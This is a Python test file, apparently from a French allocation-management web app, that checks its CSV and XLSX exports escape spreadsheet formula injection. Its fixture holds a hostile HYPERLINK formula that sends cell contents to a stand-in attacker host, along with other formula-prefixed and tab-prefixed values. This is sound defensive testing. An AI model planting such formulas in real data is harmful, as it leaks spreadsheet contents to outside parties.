"""Exports that cannot carry formulas: a name that a spreadsheet would evaluate (possible through the directory
import or the admin) is written as text in CSV and as a string cell in XLSX, in the regional and national
exports. Numbers, negative ones included, stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from accounts.models import Region
from allocations import services as allocation_services
from reports.exports import csv_bytes, xlsx_bytes
from tests import factories

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Cliquez ici")'


@pytest.fixture
def hostile(national, regional, campaign, bretagne, today):
    allocation_services.set_initial_envelopes(
        national, campaign, {r.pk: 1000 if r.code == "53" else 0 for r in Region.objects.all()}
    )
    allocation_services.notify_envelopes(national, campaign)
    for name, commune in ((HYPERLINK, "+33 Rennes"), ("@SOMME(A1:A9)", "-Vitré"), ("\tLycée\ttabulé", "\rBrest")):
        request = factories.HseRequestFactory(
            campaign=campaign,
            establishment=factories.EstablishmentFactory(region=bretagne, name=name, commune=commune),
            status="en_instruction",
            complete=True,
        )
        allocation_services.allocate(regional, request, {"cap": 10}, "", 0)


def _csv_cells(response):
    return [
        cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";") for cell in row
    ]


def _xlsx_cells(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


EXPORTS = {
    "regional": ["/exports/demandes.{fmt}?campagne=2027", "/rapports/2027/53/repartition.{fmt}"],
    "national": [
        "/exports/demandes.{fmt}?campagne=2027",
        "/exports/demandes.{fmt}?campagne=2027&region=53",
        "/rapports/2027/53/repartition.{fmt}",
        "/exports/tableau-national.{fmt}?campagne=2027",
    ],
}


@pytest.mark.parametrize("role", ["regional", "national"])
def test_no_export_cell_is_a_formula(client, hostile, request, role):
    client.force_login(request.getfixturevalue(role))
    for url in EXPORTS[role]:
        cells = _csv_cells(client.get(url.format(fmt="csv")))
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], url
        sheet = _xlsx_cells(client.get(url.format(fmt="xlsx")))
        assert [c.coordinate for c in sheet if c.data_type == "f"] == [], url
        if "tableau-national" in url:
            continue
        assert f"'{HYPERLINK}" in cells, url
        assert "'@SOMME(A1:A9)" in cells, url
        texts = {c.value for c in sheet if c.data_type == "s"}
        assert HYPERLINK in texts, url
        assert "@SOMME(A1:A9)" in texts, url
        assert "\tLycée\ttabulé" in texts, url


def test_negative_numbers_stay_numbers():
    rows = [["-Vitré", -5, Decimal("-2.5"), "=1+1", "+33", "Rennes"]]
    assert csv_bytes(["a"] * 6, rows).decode("utf-8-sig").splitlines()[1] == "'-Vitré;-5;-2,5;'=1+1;'+33;Rennes"
    sheet = load_workbook(io.BytesIO(xlsx_bytes(["a"] * 6, rows, "t"))).active
    cells = next(sheet.iter_rows(min_row=2))
    assert [(c.value, c.data_type) for c in cells] == [
        ("-Vitré", "s"),
        (-5, "n"),
        (-2.5, "n"),
        ("=1+1", "s"),
        ("+33", "s"),
        ("Rennes", "s"),
    ]
